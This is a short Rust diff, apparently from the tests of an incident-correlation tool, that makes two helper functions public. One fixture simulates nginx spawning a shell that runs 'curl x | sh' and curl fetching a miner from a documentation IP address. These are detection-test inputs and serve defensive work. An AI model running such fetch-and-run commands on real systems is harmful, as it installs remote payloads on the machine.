@@ -5,14 +5,14 @@ use incident::wording::{Language, TEMPLATES};
 use incident::*;
 use std::collections::BTreeSet;
 
-fn incident(alerts: &[Told]) -> Incident {
+pub fn incident(alerts: &[Told]) -> Incident {
     let mut correlator = Correlator::new(Limits::default(), 1);
     let id = alerts.iter().map(|told| correlator.observe(&told.0).incident).last().unwrap();
     correlator.incident(&id).unwrap()
 }
 
 /// nginx starts a shell, which fetches a miner and runs it.
-fn web_shell() -> Vec<Told> {
+pub fn web_shell() -> Vec<Told> {
     let nginx = [p(812, "/usr/sbin/nginx", "nginx: worker"), p(811, "/usr/sbin/nginx", "nginx: master"), init()];
     let shell = below(p(900, "/usr/bin/dash", "sh -c 'curl x | sh'"), &nginx);
     let curl = below(p(901, "/usr/bin/curl", "curl -o /tmp/m http://203.0.113.9/m"), &shell);
